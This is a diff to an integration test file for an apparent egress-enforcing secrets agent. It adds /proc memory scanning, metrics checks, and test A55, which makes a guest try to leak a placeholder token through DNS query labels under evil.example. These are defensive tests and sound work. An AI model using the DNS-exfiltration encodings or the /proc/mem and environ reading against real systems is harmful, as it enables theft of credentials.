@@ -2,7 +2,7 @@
  * Secrets from a guest on a real tap, with curl, against real servers and a running agent: rows A55, A57–A59 and tests 32, 33, 36, 38,
  * 39 of a placeholder's way. What is put where in detail is in test/unit/secrets-*.test.ts.
  */
-import { chmodSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { chmodSync, closeSync, openSync, readFileSync, readSync, renameSync, rmSync, statSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { assertNowhere } from "../lib/secrets.js";
@@ -12,6 +12,32 @@ import "./stage.js"; // its bounds for tests and hooks
 import { openWorld, tell } from "./tls-world.js";
 
 const VALUE = "ghp_realvalue0123456789abcdefghijklmnopq", ROTATED = "ghp_rotatedvalue9876543210zyxwvutsrqpon";
+/** Whether a process has an octet string anywhere in memory that can be read. */
+function memoryHolds(pid: number, text: string): boolean {
+  const wanted = Buffer.from(text), file = openSync(`/proc/${pid}/mem`, "r");
+  try {
+    for (const line of readFileSync(`/proc/${pid}/maps`, "latin1").split("\n")) {
+      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
+      if (from === undefined) continue;
+      // A region may be larger than a buffer; pieces overlap by the text's length.
+      for (let at = parseInt(from, 16), end = parseInt(to as string, 16); at < end; at += CHUNK) {
+        const octets = Buffer.alloc(Math.min(CHUNK + wanted.length, end - at));
+        let read = 0;
+        try {
+          read = readSync(file, octets, 0, octets.length, at);
+        } catch {
+          break; // reserved only
+        }
+        if (octets.subarray(0, read).includes(wanted)) return true;
+      }
+    }
+    return false;
+  } finally {
+    closeSync(file);
+  }
+}
+const CHUNK = 16 << 20;
+const METRICS = "127.0.0.1:9470";
 const NAMES = ["shop.example", "tenant.example", "bank.example"];
 
 describe("secrets", () => {
@@ -49,7 +75,7 @@ ${extra}`}`;
     ({ world, origin } = await openWorld());
     file = path.join(world.dir, "token");
     writeFileSync(file, `${VALUE}\n`, { mode: 0o600 });
-    agent = await TestAgent.start(world);
+    agent = await TestAgent.start(world, `metrics: ${METRICS}\n`);
     watcher = await agent.watch();
     await agent.client.attach({ tap: "tap0", policy: request(policy()) });
     for (const name of NAMES) await tell(world, name);
@@ -88,6 +114,19 @@ ${extra}`}`;
     await watcher.seen({ event: "tls-denied", reason: "secret", name: "tenant.example" });
   });
 
+  test("A55: in the labels of a DNS question it is a violation: nothing goes upstream, each question is told and counted", async () => {
+    const hex = Buffer.from(placeholder).toString("hex");
+    const names = [`${placeholder.replaceAll("_", "-")}.evil.example`, `${placeholder.toUpperCase()}.evil.example`, `x${placeholder.slice(0, 20)}.${placeholder.slice(20)}.shop.example`, `${hex.slice(0, 60)}.${hex.slice(60)}.evil.example`];
+    const questions = async (): Promise<string> => (await world.host.run(["curl", "-sS", `http://${METRICS}/metrics`])).stdout.split("\n").find((line) => line.startsWith("enforcer_dns_queries_total") && line.includes('outcome="secret"')) ?? "0";
+    for (const transport of ["udp", "tcp"]) for (const name of names) expect(await world.guest.probe(["dns", transport, "8.8.8.8", name, "A"], 10_000)).toMatchObject({ rcode: "NXDOMAIN" });
+    expect(await questions()).toMatch(/ 8$/);
+    const told = await watcher.seen({ event: "tls-denied", reason: "secret", port: 53 });
+    expect(JSON.stringify(told)).toContain("secret TOKEN");
+    // By its name it is not known to anybody outside the agent and the guest.
+    await until("all of them", () => watcher.events.filter((event) => event["port"] === 53).length === 8);
+    expect(JSON.stringify(watcher.events).toLowerCase()).not.toContain(placeholder.toLowerCase());
+  });
+
   test("A57: over plain HTTP, to its own host, and where it is not declared, it is stopped too", async () => {
     expect((await curl("shop.example", "-H", `Authorization: Bearer ${placeholder}`, "http://shop.example/")).status).toBe("403");
     expect((await curl("shop.example", "-H", `X-Debug: ${placeholder}`, "https://shop.example/")).status).toBe("403");
@@ -122,6 +161,9 @@ ${extra}`}`;
       await new Promise((resolve) => setTimeout(resolve, 300));
       return seen().at(-1)?.headers["authorization"] === ROTATED;
     }, 20_000);
+    // A59: nor anywhere in the guest's memory. The agent's own holds it, as it must.
+    for (const value of [VALUE, ROTATED]) expect(memoryHolds(client.pid, value)).toBe(false);
+    expect(memoryHolds(client.pid, placeholder)).toBe(true);
     await client.stop();
   });
 
@@ -156,6 +198,10 @@ ${extra}`}`;
       policy: JSON.stringify(await client.policy("tap0")), secrets: JSON.stringify(await client.secrets("tap0")), check: (await agent.run("policy", "show", "tap0")).out,
       environ: readFileSync(`/proc/${pid}/environ`, "latin1"), cmdline: readFileSync(`/proc/${pid}/cmdline`, "latin1"),
     };
+    texts["metrics"] = (await world.host.run(["curl", "-sS", `http://${METRICS}/metrics`])).stdout;
+    expect(texts["metrics"]).toContain('enforcer_secrets_total{sandbox="tap0",secret="TOKEN",event="injected"}');
+    texts["explain"] = (await agent.run("explain", "tap0", "shop.example:443")).out;
+    texts["flows"] = (await agent.run("flows", "tap0")).out;
     for (const value of [VALUE, ROTATED]) assertNowhere(value, { files: [world.runDir], texts });
     // The search itself finds what is there.
     expect(() => assertNowhere(ROTATED, { files: [file] })).toThrow(/token/);
